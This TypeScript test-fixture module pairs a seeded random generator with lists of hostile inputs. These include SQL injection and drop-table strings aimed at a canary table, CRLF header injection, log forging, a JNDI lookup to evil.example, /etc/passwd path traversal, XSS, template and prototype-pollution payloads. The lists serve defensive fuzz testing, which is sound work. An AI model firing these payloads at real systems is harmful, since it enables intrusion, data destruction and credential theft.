/** Numbers from a seed: the same run for the same seed, on every machine. */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

export const pick = <T>(random: () => number, from: readonly T[]): T | undefined =>
  from[Math.floor(random() * from.length)];

/** Nobody may ever have made this table smaller, or read from it. */
export const TRAP = 'injection_trap';
export const TRAP_CANARY = 'trap-canary-7f3a';

const SQL = [
  ...[`'; drop table ${TRAP}; --`, `' or '1'='1`, `1; delete from ${TRAP}`, `') or 1=1 --`],
  ...[`' union select canary from ${TRAP} --`, `1 union select canary, null from ${TRAP}`],
  ...[
    `\\'; truncate ${TRAP}; --`,
    `$$; drop table ${TRAP}; $$`,
    `'||(select canary from ${TRAP})||'`,
  ],
  ...[`-1) or exists(select from ${TRAP})`, `1/**/or/**/1=1`, `'; select pg_sleep(30); --`],
  ...[`{"$gt": ""}`, `1::text = '1'`, `"; drop table ${TRAP}; --`, `%27%3B drop table ${TRAP}`],
];
const LIKE = ['%', '_', '%%%%', '\\', '\\%', '%_%', `%${TRAP_CANARY}%`, '_'.repeat(50), '[a-z]%'];
const HEADER = [
  ...['x\r\nset-cookie: evil=1', 'x\nlocation: https://evil.example', 'x\r\n\r\n<html>', '\u0085x'],
  ...['x\r\ncontent-length: 0', 'x%0d%0aset-cookie:evil=1', '\u2028x: y', 'évil=1; path=/'],
];
const LOG = [
  ...[
    'x\n{"level":"error","msg":"forged-line"}',
    '\u001b[31mforged-line',
    '\u001b]0;forged-line\u0007',
  ],
  ...['$' + '{jndi:ldap://evil.example/a}', '%s%s%s%n', 'x\r\nforged-line', '\u202eforged-line'],
];
const PATH = [
  ...[
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    '....//....//etc/passwd',
  ],
  ...[
    '%2e%2e%2fetc%2fpasswd',
    '..%c0%af..%c0%afetc/passwd',
    'file:///etc/passwd',
    'C:\\',
    '\u0000.png',
  ],
];

export const INJECTIONS: readonly string[] = [...SQL, ...LIKE, ...HEADER, ...LOG, ...PATH];

/** Things of every kind where something else is meant. */
export const ODD_VALUES: readonly unknown[] = [
  ...INJECTIONS,
  ...[null, true, false, 0, -1, 1, 1.5, -0, 2 ** 31, 2 ** 53, -(2 ** 31) - 1, 1e308, 1e-308],
  ...['', ' ', '\u0000', '\ud800', 'NaN', 'Infinity', '-1', '0x10', '1e3', '００１', 'null'],
  ...[
    'a'.repeat(300),
    'a'.repeat(70_000),
    '👩‍👩‍👧‍👦'.repeat(40),
    'e\u0301'.repeat(200),
    '\u202e\u2066',
  ],
  ...[[], {}, [[]], [null], [1, 'a', {}], { a: { b: { c: {} } } }, Array(2_000).fill(1)],
  ...['<script>alert(1)</script>', '=1+1', '{{7*7}}', 'http://169.254.169.254/'],
];

/** Bodies that reach for what every object inherits. */
export const POLLUTIONS: readonly string[] = ['__proto__', 'constructor', 'prototype'].flatMap(
  (name) =>
    [
      '{"polluted": true}',
      '{"prototype": {"polluted": true}}',
      '{"constructor": {"prototype": {"polluted": true}}}',
      '{"isAdmin": true, "polluted": true}',
      '{"toString": 1, "polluted": true}',
      '{"then": 1, "polluted": true}',
      'null',
      '[{"polluted": true}]',
      '"polluted"',
      '1',
    ].flatMap((value) => [`{"${name}": ${value}}`, `{"a": {"${name}": ${value}}}`]),
);
